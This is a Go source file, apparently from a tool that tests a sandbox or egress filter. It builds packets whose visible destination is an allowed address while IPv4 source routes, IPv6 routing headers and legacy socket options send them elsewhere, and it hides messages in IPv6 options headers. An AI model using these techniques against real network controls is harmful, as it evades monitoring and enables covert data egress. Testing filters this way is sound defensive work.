package adversary

import (
	"encoding/binary"
	"net/netip"

	"golang.org/x/sys/unix"
)

// What unix has no name for.
const (
	ipRetopts      = 7
	ipv6OldRoute   = 5
	ipv6OldOptions = 6
	flowLabelMgr   = 32
	flowInfoSend   = 33
)

// flowRequest gets a flow label, for anybody's use: struct in6_flowlabel_req.
func flowRequest(to netip.Addr, label int) []byte {
	const shared, create, size = 255, 1, 32
	b := append(make([]byte, 0, size), to.AsSlice()...)
	b = binary.BigEndian.AppendUint32(b, uint32(label))
	b = append(b, 0, shared)
	b = binary.NativeEndian.AppendUint16(b, create)
	return append(b, make([]byte, size-len(b))...)
}

// sourceRoute is an IPv4 loose source route by one hop.
func sourceRoute(hop netip.Addr) []byte {
	const noop, loose, length, pointer = 1, 131, 7, 4
	return append([]byte{noop, loose, length, pointer}, hop.AsSlice()...)
}

// segments is a routing header of IPv6, of segment routing: the packet goes to
// the hop first.
func segments(last, hop netip.Addr) []byte {
	const words, kind, left, first = 4, 4, 1, 1
	return append(append([]byte{0, words, kind, left, first, 0, 0, 0}, last.AsSlice()...), hop.AsSlice()...)
}

// mobile is the routing header of Mobile IPv6.
func mobile(hop netip.Addr) []byte {
	return append([]byte{0, 2, 2, 1, 0, 0, 0, 0}, hop.AsSlice()...)
}

// options is a header of hop-by-hop or destination options with the message.
func options(text []byte) []byte {
	const experimental = 0x1e
	b := append([]byte{0, 0, experimental, byte(len(text))}, text...)
	for len(b)%8 != 0 {
		b = append(b, 0) // Pad1
	}
	b[1] = byte(len(b)/8 - 1)
	return b
}

// routed sends to what is allowed by way of the technique's own address: what a
// hook sees as the destination is not where the packet goes.
func routed() []Technique {
	const flags = "segment routing"
	udp := func(m func(a *attempt) message) func(*attempt) error {
		return func(a *attempt) error {
			one := m(a)
			one.text = []byte("-") // where it goes tells
			return a.send(one)
		}
	}
	tcp := func(t func(a *attempt) (netip.AddrPort, tweak)) func(*attempt) error {
		return func(a *attempt) error {
			to, prepare := t(a)
			return a.stream(0, to, prepare, wait(impatience))
		}
	}
	route4 := func(a *attempt) tweak { return setBytes(unix.SOL_IP, unix.IP_OPTIONS, sourceRoute(a.Addr4())) }
	segment6 := func(a *attempt) tweak {
		return setBytes(unix.SOL_IPV6, unix.IPV6_RTHDR, segments(a.Allowed6.Addr(), a.Addr6()))
	}
	return []Technique{
		{Name: "source route udp", Family: "4", Cap: "NET_RAW", How: "IP_OPTIONS by setsockopt", Phase: PhaseMany, run: udp(func(a *attempt) message {
			return message{to: a.Allowed4, prepare: []tweak{route4(a)}}
		})},
		{Name: "source route control", Family: "4", Cap: "NET_RAW", How: "IP_RETOPTS as a control message", Phase: PhaseMany, run: udp(func(a *attempt) message {
			return message{to: a.Allowed4, control: control(unix.SOL_IP, ipRetopts, sourceRoute(a.Addr4()))}
		})},
		{Name: "source route tcp", Family: "4", Cap: "NET_RAW", How: "IP_OPTIONS by setsockopt", Phase: PhaseMany, run: tcp(func(a *attempt) (netip.AddrPort, tweak) {
			return a.Allowed4, route4(a)
		})},
		{Name: "routing header udp", Family: "6", How: "IPV6_RTHDR of segment routing by setsockopt", Needs: flags, Phase: PhaseMany, run: udp(func(a *attempt) message {
			return message{to: a.Allowed6, prepare: []tweak{segment6(a)}}
		})},
		{Name: "routing header tcp", Family: "6", How: "IPV6_RTHDR of segment routing by setsockopt", Needs: flags, Phase: PhaseMany, run: tcp(func(a *attempt) (netip.AddrPort, tweak) {
			return a.Allowed6, segment6(a)
		})},
		{Name: "routing header control", Family: "6", How: "IPV6_RTHDR of segment routing as a control message", Needs: "a kernel that takes it", Phase: PhaseMany, run: udp(func(a *attempt) message {
			return message{to: a.Allowed6, control: control(unix.SOL_IPV6, unix.IPV6_RTHDR, segments(a.Allowed6.Addr(), a.Addr6()))}
		})},
		{Name: "routing header mobile", Family: "6", How: "IPV6_RTHDR of Mobile IPv6 as a control message", Needs: "Mobile IPv6", Phase: PhaseMany, run: udp(func(a *attempt) message {
			return message{to: a.Allowed6, control: control(unix.SOL_IPV6, unix.IPV6_RTHDR, mobile(a.Addr6()))}
		})},
		{Name: "routing header old", Family: "6", How: "the control message of RFC 2292", Needs: "a kernel that takes it", Phase: PhaseMany, run: udp(func(a *attempt) message {
			return message{to: a.Allowed6, control: control(unix.SOL_IPV6, ipv6OldRoute, segments(a.Allowed6.Addr(), a.Addr6()))}
		})},
		{Name: "routing header flow", Family: "6", How: "IPV6_RTHDR brought along with a flow label", Needs: "a kernel that takes it", Phase: PhaseMany, run: udp(func(a *attempt) message {
			request := flowRequest(a.Allowed6.Addr(), a.Number)
			request = append(request, control(unix.SOL_IPV6, unix.IPV6_RTHDR, segments(a.Allowed6.Addr(), a.Addr6()))...)
			return message{to: a.Allowed6, flow: uint32(a.Number), prepare: []tweak{
				setBytes(unix.SOL_IPV6, flowLabelMgr, request), setInt(unix.SOL_IPV6, flowInfoSend, 1),
			}}
		})},
		{Name: "routing header sticky", Family: "6", How: "IPV6_2292PKTOPTIONS by setsockopt", Needs: "a kernel that takes it", Phase: PhaseMany, run: udp(func(a *attempt) message {
			return message{to: a.Allowed6, prepare: []tweak{
				setBytes(unix.SOL_IPV6, ipv6OldOptions, control(unix.SOL_IPV6, unix.IPV6_RTHDR, segments(a.Allowed6.Addr(), a.Addr6()))),
			}}
		})},
		{Name: "hop-by-hop options", Family: "6", How: "the message in IPV6_HOPOPTS, to elsewhere", Cap: "NET_RAW", Phase: PhaseMany, run: func(a *attempt) error {
			return a.send(message{to: a.to6(), prepare: []tweak{setBytes(unix.SOL_IPV6, unix.IPV6_HOPOPTS, options(a.text))}})
		}},
		{Name: "destination options", Family: "6", How: "the message in IPV6_DSTOPTS, to elsewhere", Cap: "NET_RAW", Phase: PhaseMany, run: func(a *attempt) error {
			return a.send(message{to: a.to6(), control: control(unix.SOL_IPV6, unix.IPV6_DSTOPTS, options(a.text))})
		}},
	}
}
